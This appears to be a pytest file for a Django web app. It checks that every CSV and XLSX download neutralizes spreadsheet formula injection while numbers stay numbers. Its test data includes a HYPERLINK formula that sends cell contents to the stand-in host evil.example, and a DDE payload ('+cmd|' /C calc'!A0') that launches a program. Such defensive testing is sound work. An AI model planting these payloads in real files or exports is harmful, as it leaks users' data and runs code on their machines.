"""Every CSV and XLSX download, public and private, is safe to open in a spreadsheet.

A text cell that a spreadsheet would run (starting with =, +, -, @, a tab or a carriage
return) is neutralized: in CSV with a leading apostrophe, in XLSX as a string cell with
Excel's quote prefix. Numbers stay numbers, negative ones included. The route test finds
the download routes in the URL resolver, so a download added later must be covered here.
"""

from __future__ import annotations

import csv
import io
import re
from types import SimpleNamespace
from urllib.parse import parse_qs, quote, urlsplit

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from network_support import join_network
from openpyxl import load_workbook
from workspace_support import publish_plan

from upward.planning.stakeholder_csv import COLUMNS, parse_stakeholder_csv
from upward.reports.downloads import FORMULA_START, to_csv, to_xlsx
from upward.web.knowledge.models import Code
from upward.web.networks.models import Staff
from upward.web.workspace.models import Stakeholder

pytest_plugins = ["workspace_support"]
pytestmark = [pytest.mark.db, pytest.mark.django_db]

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open peers")'
NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def runnable(text: str) -> bool:
    """Would a spreadsheet run this text cell as a formula?"""
    return text.startswith(FORMULA_START) and not NUMBER.match(text)


def csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def assert_safe_csv(body: bytes) -> list[list[str]]:
    rows = csv_cells(body)
    assert len(rows) > 1, "the download holds no data rows"
    for line, row in enumerate(rows, start=1):
        for cell in row:
            assert not runnable(cell), f"line {line}: {cell!r} would run in a spreadsheet"
    return rows


def assert_safe_xlsx(body: bytes) -> list[tuple[object, ...]]:
    book = load_workbook(io.BytesIO(body))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str) and runnable(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
            values.append(tuple(c.value for c in row))
    return values


# --- the writer ------------------------------------------------------------------------


CELLS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'quoted"]


def test_csv_neutralizes_text_and_keeps_numbers() -> None:
    rows = [{"text": t, "number": -1.5, "count": -3, "plain": "-0.25"} for t in CELLS]
    cells = csv_cells(to_csv(rows, ["text", "number", "count", "plain"]).encode())
    assert [r[0] for r in cells[1:]] == ["'" + t for t in CELLS]
    assert {(r[1], r[2], r[3]) for r in cells[1:]} == {("-1.5", "-3", "-0.25")}


def test_csv_writes_each_kind_of_cell_as_before() -> None:
    """Missing and None cells empty, booleans and numbers as Python writes them, other
    objects by their text (neutralized too), a repeated text the same each time."""
    from datetime import date
    from decimal import Decimal

    rows = [
        {"a": None, "b": True, "c": 0, "d": 0.0, "e": Decimal("-1.50"), "f": date(2025, 1, 2)},
        {"a": "=1", "b": False, "c": 1, "d": 1.0, "e": "-1.50", "f": "=1"},
        {"c": -7, "d": float("1e-07")},
    ]
    text = to_csv(rows, ["a", "b", "c", "d", "e", "f"])
    assert text.split("\r\n") == [
        "a,b,c,d,e,f",
        ",True,0,0.0,-1.50,2025-01-02",
        "'=1,False,1,1.0,-1.50,'=1",
        ",,-7,1e-07,,",
        "",
    ]


def test_xlsx_keeps_text_as_text_and_numbers_as_numbers() -> None:
    rows = [{"text": t, "number": -1.5, "count": -3, "none": None} for t in CELLS]
    body = to_xlsx(rows, ["text", "number", "count", "none"], notes=["=not a formula"])
    values = assert_safe_xlsx(body)
    assert [v[0] for v in values[1 : len(CELLS) + 1]] == CELLS  # the text itself, unchanged
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    assert sheet["B2"].value == -1.5 and sheet["B2"].data_type == "n"
    assert sheet["C2"].value == -3 and sheet["D2"].value is None
    assert not sheet["A8"].quotePrefix  # "'quoted" is not a formula


def test_every_formula_start_survives_the_stakeholder_round_trip() -> None:
    """The import reads back exactly what the shared writer wrote."""
    starts = [c for c in FORMULA_START if not c.isspace()]  # names and notes are stripped
    names = [f"{c}partner {i}" for i, c in enumerate([*starts, "'", "''"])]
    names += ["+1 651 555 0100", "-5", "'-5", "'\ttab", "'\rreturn"]
    records = [{"name": n, "sector": "Other", "notes": n} for n in names]
    back = parse_stakeholder_csv(to_csv(records, COLUMNS))
    assert back.ok, back.errors
    assert [r.name for r in back.rows] == names and [r.notes for r in back.rows] == names


# --- every download route --------------------------------------------------------------


def download_patterns() -> list[str]:
    """Every URL pattern that names a CSV or XLSX file, or takes a file format."""

    def walk(entries: list[object], prefix: str = "") -> list[str]:
        found = []
        for entry in entries:
            if isinstance(entry, URLResolver):
                space = f"{entry.namespace}:" if entry.namespace else prefix
                found += walk(entry.url_patterns, space)
            elif isinstance(entry, URLPattern) and re.search(r"csv|xlsx|fmt>", str(entry.pattern)):
                found.append(prefix + str(entry.name))
        return found

    return walk(get_resolver().url_patterns)


def shared_set_url(client: Client, path: str) -> str:
    """The shareable ?set= link the peers page redirects a hand-named set to."""
    response = client.get(f"{path}?name={quote(FORMULA)}")
    assert response.status_code == 302, response.content[:300]
    location = response["Location"]
    assert "set" in parse_qs(urlsplit(location).query), location
    return location


def test_every_download_route_is_formula_safe(
    workspace_world: SimpleNamespace, client: Client
) -> None:
    Stakeholder.objects.create(
        workspace=workspace_world.workspace,
        name=FORMULA,
        organization="@Acme",
        sector="other",
        phone="+1 651 555 0100",
        notes="-2+3",
    )
    client.force_login(workspace_world.owner)
    query = urlsplit(shared_set_url(client, "/county/27123/peers/")).query
    covered: dict[str, list[str]] = {
        "explorer:profile_file": ["/county/27123.csv", "/county/27123.xlsx", "/city/2758000.csv"],
        "explorer:metric-csv": ["/metric/low_birth_weight.csv"],
        "explorer:metric-xlsx": ["/metric/low_birth_weight.xlsx"],
        "explorer:analysis-file": [
            f"/county/27123/peers.csv?{query}",
            f"/county/27123/compare.csv?{query}",
        ],
        "workspace:stakeholder_export": [reverse("workspace:stakeholder_export", args=["ramsey"])],
        "workspace:local_series_values": [
            reverse(
                "workspace:local_series_values", args=["ramsey", workspace_world.local_series.pk]
            )
        ],
        "workspace:local_data_template": [
            reverse("workspace:local_data_template", args=["ramsey"])
        ],
        **{
            f"workspace:{name}": [reverse(f"workspace:{name}", args=["ramsey"])]
            for name in ("excerpt_csv", "excerpt_xlsx", "codebook_export", "model_export_csv")
        },
        "workspace:priority_export_csv": [
            reverse("workspace:priority_export_csv", args=["ramsey", workspace_world.priority.pk])
        ],
    }
    workspace_world.outcome.title = FORMULA  # an element's title, in the model's CSV
    workspace_world.outcome.save()
    Code.objects.create(workspace=workspace_world.workspace, kind="custom", name=FORMULA)
    workspace_world.excerpt.memo = FORMULA
    workspace_world.excerpt.save()
    workspace_world.local_series.values.create(
        row=3, geography_kind="neighborhood", geography=FORMULA, period="2023", value=-1.5
    )
    workspace_world.population.title = FORMULA  # an indicator's title, in a published plan
    workspace_world.population.save()
    publish_plan(workspace_world.workspace, workspace_world.owner)  # version 2 freezes it
    public_csv = reverse("public:plan_public_twin", args=["ramsey", "csv"])
    covered["public:plan_public_twin"] = [public_csv]
    join_network(workspace_world)  # the owner runs a network the workspace is a team of
    Staff.objects.create(
        network=workspace_world.network, user=workspace_world.owner, role="operator"
    )
    workspace_world.track.name = FORMULA  # a track's name, in the console's CSV
    workspace_world.track.save()
    covered["networks:console_csv"] = [reverse("networks:console_csv", args=["maln"])]
    assert set(download_patterns()) == set(covered), "a download route is not covered here"
    formula_rows = 0
    for urls in covered.values():
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, (url, response.content[:300])
            if response["Content-Type"] == XLSX:
                assert_safe_xlsx(response.content)
                continue
            assert response["Content-Type"].startswith("text/csv"), url
            rows = assert_safe_csv(response.content)
            cells = [c for row in rows for c in row]
            assert FORMULA not in cells, url
            formula_rows += cells.count("'" + FORMULA)
            if url == public_csv:  # the published indicator's title, neutralized
                assert "'" + FORMULA in cells, cells
            if "stakeholders" in url:
                assert {"'@Acme", "'+1 651 555 0100", "'-2+3"} <= set(cells)
    assert formula_rows > 2  # peers.csv and compare.csv name the set, the export the partner


def test_numbers_in_downloads_stay_numbers(client: Client, warehouse_env: object) -> None:
    """A negative difference in compare.csv is a number, not neutralized text."""
    query = urlsplit(shared_set_url(client, "/county/27123/peers/")).query
    rows = csv_cells(client.get(f"/county/27123/compare.csv?{query}").content)
    column = rows[0].index("difference")
    differences = [r[column] for r in rows[1:] if r[column]]
    assert any(d.startswith("-") for d in differences)
    assert all(NUMBER.match(d) for d in differences)
